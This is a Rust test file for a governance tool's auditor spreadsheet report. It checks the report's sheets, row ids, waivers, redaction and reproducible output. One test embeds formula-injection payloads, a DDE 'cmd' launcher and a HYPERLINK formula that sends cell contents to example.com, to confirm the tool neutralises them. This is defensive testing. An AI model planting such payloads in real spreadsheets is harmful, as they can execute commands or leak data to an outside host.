//! The workbook for auditors, read back as a spreadsheet would.

#![expect(
    clippy::panic,
    clippy::unwrap_used,
    reason = "a test may stop at the first surprise"
)]

#[path = "process/govlint.rs"]
mod govlint;

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use calamine::{Data, Range, Reader, Xlsx, open_workbook};
use govlint::Run;
use tempfile::TempDir;

type Book = Xlsx<std::io::BufReader<fs::File>>;

/// The sheets whose rows have an identity and wait for an auditor.
const TESTED: [&str; 4] = ["Findings", "Population", "Controls", "Waivers"];

fn story() -> &'static Path {
    Path::new(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/halden-freight"
    ))
}

fn write(folder: &Path, words: &[&str], output: &Path) {
    let mut all = vec!["report", "--audience", "auditor", "-f", "xlsx"];
    let output = output.to_str().unwrap();
    all.extend(["--working-tree", "--as-of", "2026-11-22", "-o", output]);
    all.extend(words);
    let ended = Run::new(folder, &all).end();
    assert_eq!(ended.status, 0, "{}", ended.stderr);
}

fn book(folder: &Path, words: &[&str]) -> Book {
    let out = TempDir::new().unwrap();
    let output = out.path().join("report.xlsx");
    write(folder, words, &output);
    open_workbook(&output).unwrap()
}

fn sheet(book: &mut Book, name: &str) -> Range<Data> {
    book.worksheet_range(name).unwrap()
}

/// The values of a column below its head.
fn column(sheet: &Range<Data>, head: &str) -> Vec<Data> {
    let heads = sheet.rows().next().unwrap();
    let at = heads.iter().position(|cell| cell == head);
    let at = at.unwrap_or_else(|| panic!("no {head} in {heads:?}"));
    sheet.rows().skip(1).map(|row| row[at].clone()).collect()
}

#[test]
fn an_auditor_finds_every_sheet() {
    let mut book = book(story(), &[]);
    let names = book.sheet_names();
    let first = [
        "Summary",
        "Findings",
        "Population",
        "Controls",
        "Waivers",
        "Upcoming",
        "Provenance",
    ];
    assert_eq!(names[..7], first);
    for name in names {
        let range = sheet(&mut book, &name);
        assert!(range.height() > 1, "{name} is empty");
    }
}

#[test]
fn rows_have_an_identity_and_wait_for_the_auditor() {
    let mut book = book(story(), &[]);
    for name in TESTED {
        let range = sheet(&mut book, name);
        let evaluation = column(&range, "Auditor's evaluation");
        assert!(evaluation.iter().all(|cell| *cell == Data::Empty), "{name}");
    }
    for name in TESTED.into_iter().chain(["Upcoming"]) {
        let ids = column(&sheet(&mut book, name), "Id");
        let own: BTreeSet<String> = ids.iter().map(ToString::to_string).collect();
        assert_eq!(own.len(), ids.len(), "an id of {name} stands twice");
        assert!(!own.contains(""), "a row of {name} has no id");
    }
}

#[test]
fn a_failure_has_the_id_of_its_finding() {
    let mut book = book(story(), &[]);
    let findings = column(&sheet(&mut book, "Findings"), "Id");
    let population = sheet(&mut book, "Population");
    let ids = column(&population, "Id");
    let verdicts = column(&population, "Verdict");
    let failed = ids
        .iter()
        .zip(&verdicts)
        .filter(|(_, said)| **said == *"fail");
    let failed: Vec<&Data> = failed.map(|(id, _)| id).collect();
    assert!(failed.len() > 20);
    assert!(failed.iter().all(|id| findings.contains(id)));
}

#[test]
fn waivers_tell_who_approved_them_under_which_right_and_how_they_stand() {
    let mut book = book(story(), &[]);
    let waivers = sheet(&mut book, "Waivers");
    let said = |head: &str| -> Vec<String> {
        let cells = column(&waivers, head);
        cells.iter().map(ToString::to_string).collect()
    };
    assert_eq!(said("Id"), ["Waiver/wv-2026-014", "Waiver/wv-2026-017"]);
    assert_eq!(said("State"), ["in force", "not in force"]);
    assert_eq!(said("Approved by"), ["m-diaz", "p-shah"]);
    assert_eq!(said("Under the right"), ["dr-sec-waive"; 2]);
    assert_eq!(
        column(&waivers, "Days left"),
        [Data::Float(54.0), Data::Float(61.0)]
    );
    assert_eq!(said("Covers"), ["SYS-011 on System/erp-bank-link", ""]);
    let why = &said("Does not hold because")[1];
    assert!(why.starts_with("WVR-004: "), "{why}");
    for head in ["Ends", "Approved on"] {
        let days = column(&waivers, head);
        let are_days = days.iter().all(|day| matches!(day, Data::DateTime(_)));
        assert!(are_days, "{head}: {days:?}");
    }
}

/// A record that a spreadsheet would run if it could.
const HOSTILE: &str = r#"apiVersion: govlint/v1
kind: System
id: erp
name: "=cmd|' /C calc'!A0"
criticality: critical
status: in-service
---
apiVersion: govlint/v1
kind: System
id: tms
name: '@SUM(1+1)*cmd'
criticality: critical
---
apiVersion: govlint/v1
kind: Waiver
id: w-1
name: "\t=1+1"
rule: SYS-003
targets: [System/erp]
reason: '=HYPERLINK("http://example.com?x="&A1,"click")'
approvedBy: "-2+3"
approvedOn: 2026-10-01
decisionRight: "+1"
expires: 2027-01-01
"#;

#[test]
fn nothing_that_is_written_becomes_a_formula() {
    let folder = TempDir::new().unwrap();
    fs::write(folder.path().join("a.yaml"), HOSTILE).unwrap();
    let mut book = book(folder.path(), &[]);
    let mut hostile = 0;
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(formulas.is_empty(), "{name} has a formula");
        for cell in sheet(&mut book, &name).rows().flatten() {
            let text = cell.to_string();
            let is_text = matches!(cell, Data::String(_));
            let runs = is_text && text.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!runs, "{name}: {text}");
            hostile += usize::from(text.starts_with('\''));
        }
    }
    assert!(hostile >= 3, "the hostile words are not in the workbook");
}

#[test]
fn whoever_is_hidden_stands_on_no_sheet() {
    let mut book = book(story(), &["--redact", "people"]);
    for name in book.sheet_names() {
        for cell in sheet(&mut book, &name).rows().flatten() {
            let text = cell.to_string();
            for hidden in ["Diaz", "m-diaz", "Kari Olsen", "k-olsen"] {
                assert!(!text.contains(hidden), "{name}: {text}");
            }
        }
    }
}

#[test]
fn a_workbook_is_the_same_to_the_byte() {
    let out = TempDir::new().unwrap();
    let (one, other) = (out.path().join("1.xlsx"), out.path().join("2.xlsx"));
    write(story(), &[], &one);
    // The clock of a file in an archive counts in steps of two seconds.
    std::thread::sleep(std::time::Duration::from_millis(2100));
    write(story(), &[], &other);
    assert_eq!(fs::read(one).unwrap(), fs::read(other).unwrap());
}
